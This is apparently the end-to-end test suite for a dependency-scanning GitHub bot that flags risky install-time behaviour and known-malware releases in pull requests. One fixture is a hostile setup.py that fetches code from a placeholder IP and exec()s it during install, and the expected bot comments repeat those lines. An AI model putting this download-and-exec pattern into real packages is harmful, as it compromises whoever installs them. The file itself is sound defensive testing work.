"""End to end with the real pipeline: webhooks -> capdiff -> fake GitHub + fake index over HTTP.

The worker is built exactly as `capdiff serve` builds it (`build_worker_factory` with
`pipeline_scanner`), so the index client, caches and analysis are the production ones; only
GitHub and the package index are fakes, each a real HTTP server on 127.0.0.1. Releases are
built in the test and small, so analysis takes the in-process path (no process pool).
"""

from __future__ import annotations

import re
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass
from pathlib import Path

import httpx
import pytest

from bot.commands.serve import build_worker_factory, pipeline_scanner
from bot.config import Settings
from bot.github.presenter import COMMENT_MARKER
from bot.store.queue import SqliteStore
from bot.web import create_app
from bot.worker import Worker
from tests.fakes.github import FakeGitHub, PullRequest
from tests.fakes.index import FakeIndex
from tests.fakes.osv import FakeOsv
from tests.fakes.server import serve_app
from tests.feeds.osvdata import malware
from tests.github.conftest import (
    APP_ID,
    FULL,
    OWNER,
    REPO,
    SECRET,
    comment_payload,
    pr_payload,
    signed_headers,
)

BASE = "b" * 40
HEAD = "h" * 40
HEAD2 = "2" * 40

EVIL_SETUP = (
    "import urllib.request\n"
    "from setuptools import setup\n"
    "code = urllib.request.urlopen('http://203.0.113.7/x').read()\n"
    "exec(code)\n"
    "setup(name='pkg', version='2.0')\n"
)
PLAIN_SETUP = "from setuptools import setup\nsetup()\n"
# Install-time processes only inform by default (ALERTS.md v2); this repository blocks them,
# under their deprecated v1 name.
BLOCK_INSTALL_TIME = "alerts:\n  install-network: block\n"


def publish(
    index: FakeIndex, name: str, version: str, code: str, *, setup_py: str | None = None
) -> None:
    """An sdist (with `setup_py` when given) and a wheel of `name/__init__.py` = `code`."""
    package = name.replace("-", "_")
    wheel_files = {f"{package}/__init__.py": code}
    sdist_files = dict(wheel_files)
    if setup_py is not None:
        sdist_files["setup.py"] = setup_py
    index.add_sdist(name, version, sdist_files)
    index.add_wheel(name, version, wheel_files)


@pytest.fixture(scope="module")
def index_server() -> Iterator[tuple[FakeIndex, str]]:
    """One fake index for the module: every test reads the same immutable releases."""
    index = FakeIndex()
    publish(index, "benign", "1.0", "def hello():\n    return 'hi'\n")
    publish(index, "benign", "1.1", "def hello(name='you'):\n    return f'hi {name}'\n")
    publish(index, "pkg", "1.0", "VERSION = '1.0'\n", setup_py=PLAIN_SETUP)
    publish(index, "pkg", "2.0", "VERSION = '2.0'\n", setup_py=EVIL_SETUP)
    publish(index, "pkg", "2.1", "VERSION = '2.1'\n", setup_py=PLAIN_SETUP)
    publish(index, "ghost", "1.0", "x = 1\n")
    # ghost 2.0 is listed, but its only file is gone (the index answers 404).
    removed = index.add_sdist("ghost", "2.0", {"ghost/__init__.py": "x = 2\n"})
    index.fail(index.file_url_path("ghost", removed), 404, times=1_000_000)
    # Nothing in its code: only the advisory feed knows it is malware.
    publish(index, "quiet", "1.0", "def hello():\n    return 'hi'\n")
    with serve_app(index.app) as url:
        yield index, url


@pytest.fixture(scope="module")
def osv_server() -> Iterator[str]:
    """The OSV API the worker asks (CAPDIFF_OSV_URL), as `capdiff serve` would."""
    osv = FakeOsv()
    listed = malware("MAL-2026-77", "quiet")
    listed["affected"][0]["versions"] = ["1.0"]  # type: ignore[index]
    osv.add(listed)
    with serve_app(osv.app) as url:
        yield url


@dataclass
class RealHarness:
    fake: FakeGitHub
    store: SqliteStore
    worker: Worker
    app_client: httpx.AsyncClient
    index_url: str

    async def post(self, event: str, body: bytes) -> httpx.Response:
        return await self.app_client.post(
            "/webhook", content=body, headers=signed_headers(body, event)
        )

    async def drain(self, limit: int = 10) -> int:
        for count in range(limit):
            if await self.worker.run_once() is None:
                return count
        raise AssertionError("jobs keep coming")

    def block_install_time(self) -> None:
        """The base branch gets a policy file that blocks install-time processes."""
        self.fake.add_commit(
            FULL,
            BASE,
            {
                "requirements.txt": "benign==1.0\npkg==1.0\nghost==1.0\n",
                ".github/capdiff.yml": BLOCK_INSTALL_TIME,
            },
        )

    def push(self, number: int, head: str, requirements: str) -> None:
        self.fake.add_commit(FULL, head, {"requirements.txt": requirements})
        self.fake.add_pull(
            PullRequest(owner=OWNER, repo=REPO, number=number, head_sha=head, base_sha=BASE)
        )

    def our_comments(self, number: int = 7) -> list[dict[str, object]]:
        return [
            c for c in self.fake.comments_on(FULL, number) if c["performed_via_github_app"]
        ]


@pytest.fixture
async def real(
    rsa_keys: tuple[str, str],
    fake_github: tuple[FakeGitHub, str],
    index_server: tuple[FakeIndex, str],
    osv_server: str,
    tmp_path: Path,
) -> AsyncIterator[RealHarness]:
    fake, github_url = fake_github
    _, index_url = index_server
    settings = Settings.from_env(
        {
            "CAPDIFF_APP_ID": str(APP_ID),
            "CAPDIFF_PRIVATE_KEY": rsa_keys[0],
            "CAPDIFF_WEBHOOK_SECRET": SECRET,
            "CAPDIFF_GITHUB_API_URL": github_url,
            "CAPDIFF_INDEX_URL": f"{index_url}/simple",
            "CAPDIFF_DATABASE": str(tmp_path / "capdiff.db"),
            "CAPDIFF_CACHE_DIR": str(tmp_path / "cache"),
            "CAPDIFF_WORKERS": "1",
            "CAPDIFF_OSV_URL": osv_server,
        }
    )
    store = SqliteStore(settings.database)
    fake.add_commit(FULL, BASE, {"requirements.txt": "benign==1.0\npkg==1.0\nghost==1.0\n"})
    try:
        async with httpx.AsyncClient(timeout=10) as http:
            worker = build_worker_factory(settings, store, pipeline_scanner)(http)
            transport = httpx.ASGITransport(app=create_app(settings, store))
            async with httpx.AsyncClient(transport=transport, base_url="http://capdiff") as app:
                yield RealHarness(
                    fake=fake, store=store, worker=worker, app_client=app, index_url=index_url
                )
    finally:
        store.close()


def _steady(body: object) -> str:
    """The comment body with the (timing-dependent) analysis duration fixed at 0.0 s."""
    return re.sub(r"analyzed in \d+\.\d s", "analyzed in 0.0 s", str(body))


async def test_benign_upgrade_succeeds_without_comment(real: RealHarness) -> None:
    real.push(7, HEAD, "benign==1.1\npkg==1.0\nghost==1.0\n")
    response = await real.post("pull_request", pr_payload("opened", 7, HEAD, BASE))
    assert (response.status_code, response.text) == (202, "queued")
    assert await real.drain() == 1
    [run] = real.fake.runs_for(HEAD)
    assert (run["status"], run["conclusion"]) == ("completed", "success")
    assert run["output"]["title"] == "No new risky behaviour"  # type: ignore[index]
    assert run["_annotations"] == []
    assert real.fake.comments_on(FULL, 7) == []


async def test_install_time_download_and_exec_blocks_then_a_fix_clears_it(
    real: RealHarness,
) -> None:
    real.block_install_time()
    real.push(7, HEAD, "benign==1.0\npkg==2.0\nghost==1.0\n")
    await real.post("pull_request", pr_payload("opened", 7, HEAD, BASE))
    await real.drain()
    [run] = real.fake.runs_for(HEAD)
    assert run["conclusion"] == "failure"
    annotations = run["_annotations"]
    assert isinstance(annotations, list)
    [annotation] = annotations
    assert (
        annotation["path"],
        annotation["start_line"],
        annotation["annotation_level"],
        annotation["title"],
    ) == (
        "requirements.txt",
        2,
        "failure",
        "capdiff: pkg 2.0 — install-time-payload, download-exec, install-script, dynamic-code",
    )
    [comment] = real.fake.comments_on(FULL, 7)
    body = str(comment["body"])
    assert body.startswith(
        f"{COMMENT_MARKER}\n### capdiff — 1 blocking in 1 changed dependency\n"
    )
    # One section for the package, its findings grouped by type, the threats first with
    # their chains whole.
    assert (
        "<details><summary>⛔ pkg 2.0 — install-time-payload, download-exec, install-script, "
        "dynamic-code</summary>\n\n"
        "⛔ **`install-time-payload`** — Makes an HTTP request with urllib.request.urlopen "
        "while the package is installed. (`setup.py:3`)\n"
        "```python\ncode = urllib.request.urlopen('http://203.0.113.7/x').read()\n```\n\n"
        "⛔ **`download-exec`** — Downloads `http://203.0.113.7/x` with "
        "`urllib.request.urlopen` \\(setup.py:3\\) and runs it with `exec` \\(setup.py:4\\).\n"
        "```python\nexec(code)\n```\n\n"
        "⚠️ **`install-script`** in `setup.py:3` — Calls urllib.request.urlopen.read from code "
        "that runs when the package is installed.\n"
        "```python\ncode = urllib.request.urlopen('http://203.0.113.7/x').read()\n```\n\n"
        "⚠️ **`dynamic-code`** in `setup.py:4` — Runs dynamically built code with exec.\n"
        "```python\nexec(code)\n```\n\n"
        "Accept (needs write access): `@capdiff ignore pkg@2.0 install-time-payload "
        "download-exec install-script dynamic-code`\n"
        "</details>\n"
    ) in body

    # The maintainer publishes a fixed release and the PR moves to it: the same comment
    # is edited to the all-clear line.
    real.push(7, HEAD2, "benign==1.0\npkg==2.1\nghost==1.0\n")
    await real.post("pull_request", pr_payload("synchronize", 7, HEAD2, BASE))
    await real.drain()
    [fixed] = real.fake.runs_for(HEAD2)
    assert fixed["conclusion"] == "success"
    [after] = real.fake.comments_on(FULL, 7)
    assert (after["id"], after["_edits"]) == (comment["id"], 1)
    assert _steady(after["body"]) == (
        f"{COMMENT_MARKER}\n✅ no new risky behaviour in 1 changed dependency\n\n"
        f"<sub>Policy: `.github/capdiff.yml` on `{BASE}` · 1 package analyzed in 0.0 s · "
        "full details in "
        f"[the check run]({fixed['html_url']})</sub>\n"
    )


async def test_reverting_the_manifest_clears_the_comment(real: RealHarness) -> None:
    real.push(7, HEAD, "benign==1.0\npkg==2.0\nghost==1.0\n")
    await real.post("pull_request", pr_payload("opened", 7, HEAD, BASE))
    await real.drain()
    [comment] = real.fake.comments_on(FULL, 7)
    # The PR no longer touches requirements.txt at all.
    real.push(7, HEAD2, "benign==1.0\npkg==1.0\nghost==1.0\n")
    await real.post("pull_request", pr_payload("synchronize", 7, HEAD2, BASE))
    await real.drain()
    [run] = real.fake.runs_for(HEAD2)
    assert (run["conclusion"], run["output"]["title"]) == (  # type: ignore[index]
        "success",
        "No dependency changes",
    )
    [after] = real.fake.comments_on(FULL, 7)
    assert after["id"] == comment["id"]
    assert _steady(after["body"]) == (
        f"{COMMENT_MARKER}\n✅ no new risky behaviour in 0 changed dependencies\n\n"
        "<sub>Policy: built-in defaults · 0 packages analyzed in 0.0 s · full details in "
        f"[the check run]({run['html_url']})</sub>\n"
    )


async def test_maintainer_ignore_reruns_to_success(real: RealHarness) -> None:
    fake = real.fake
    real.block_install_time()
    real.push(7, HEAD, "benign==1.0\npkg==2.0\nghost==1.0\n")
    await real.post("pull_request", pr_payload("opened", 7, HEAD, BASE))
    await real.drain()
    fake.set_permission(FULL, "maint", "maintain", "maintain")
    text = (
        "Reviewed the download, it is our mirror.\n"
        "@capdiff ignore pkg@2.0 install-time-payload download-exec"
    )
    cid = fake.add_human_comment(FULL, 7, "maint", text)
    response = await real.post("issue_comment", comment_payload(7, "maint", text, cid))
    assert response.status_code == 202
    assert await real.drain() == 2  # the command, then the re-run it queued
    assert fake.reactions[cid] == ["+1"]
    assert [r["conclusion"] for r in fake.runs_for(HEAD)] == ["failure", "success"]
    [ours] = real.our_comments()
    body = str(ours["body"])
    # What is left only warns; the accepted alert is gone from the comment.
    assert body.startswith(f"{COMMENT_MARKER}\n### capdiff — ")
    assert "blocking" not in body.split("\n")[1]
    assert "install-time-payload" not in body and "download-exec" not in body
    assert "<details><summary>⚠️ pkg 2.0 — install-script, dynamic-code</summary>" in body
    assert "⚠️ **`dynamic-code`** in `setup.py:4` — " in body


async def test_release_missing_from_the_index_is_neutral_with_the_reason(
    real: RealHarness,
) -> None:
    real.push(7, HEAD, "benign==1.0\npkg==1.0\nghost==2.0\n")
    await real.post("pull_request", pr_payload("opened", 7, HEAD, BASE))
    await real.drain()
    [run] = real.fake.runs_for(HEAD)
    assert (run["conclusion"], run["output"]["title"]) == (  # type: ignore[index]
        "neutral",
        "Analysis incomplete",
    )
    file_url = f"{real.index_url}/files/ghost/ghost-2.0.tar.gz"
    reason = f"ghost-2.0.tar.gz: not found on {file_url} (404); it may have been removed"
    markdown = reason.replace("(404)", "\\(404\\)")  # as the report escapes it
    assert f"- **ghost** `2.0`: {markdown}" in str(run["output"]["summary"])  # type: ignore[index]
    annotations = run["_annotations"]
    assert isinstance(annotations, list)
    [note] = annotations
    assert (note["path"], note["start_line"], note["annotation_level"], note["message"]) == (
        "requirements.txt",
        3,
        "notice",
        f"ghost 2.0: analysis incomplete: {reason}",
    )
    [comment] = real.fake.comments_on(FULL, 7)
    assert f"- **ghost** `2.0`: {markdown}" in str(comment["body"])


async def test_a_changed_file_included_by_an_unchanged_requirements_file_is_followed(
    real: RealHarness,
) -> None:
    base = "c" * 40
    real.fake.add_commit(
        FULL,
        base,
        {
            "app/requirements.txt": "-r ../deps/pinned.txt\n",
            "deps/pinned.txt": "pkg==1.0\n",
            ".github/capdiff.yml": BLOCK_INSTALL_TIME,
        },
    )
    real.fake.add_commit(
        FULL,
        HEAD,
        {"app/requirements.txt": "-r ../deps/pinned.txt\n", "deps/pinned.txt": "pkg==2.0\n"},
    )
    real.fake.add_pull(
        PullRequest(owner=OWNER, repo=REPO, number=9, head_sha=HEAD, base_sha=base)
    )
    await real.post("pull_request", pr_payload("opened", 9, HEAD, base))
    assert await real.drain() == 1
    [run] = real.fake.runs_for(HEAD)
    assert run["conclusion"] == "failure"
    annotations = run["_annotations"]
    assert isinstance(annotations, list)
    assert [(a["path"], a["start_line"], a["annotation_level"]) for a in annotations] == [
        ("deps/pinned.txt", 1, "failure")
    ]
    # One (recursive: the includer is in a subdirectory) tree listing per side found it.
    trees = [r for r in real.fake.requests if "/git/trees/" in r]
    assert sorted(trees) == [
        f"GET /repos/{FULL}/git/trees/{base}",
        f"GET /repos/{FULL}/git/trees/{HEAD}",
    ]


async def test_a_release_listed_as_malware_blocks(real: RealHarness) -> None:
    real.push(7, HEAD, "benign==1.0\npkg==1.0\nghost==1.0\nquiet==1.0\n")
    await real.post("pull_request", pr_payload("opened", 7, HEAD, BASE))
    await real.drain()
    [run] = real.fake.runs_for(HEAD)
    assert run["conclusion"] == "failure"
    [comment] = real.fake.comments_on(FULL, 7)
    body = str(comment["body"])
    assert "quiet 1.0 is listed as malicious by MAL-2026-77" in body
    assert "known malware and advisories:" not in body  # the feed answered: no note
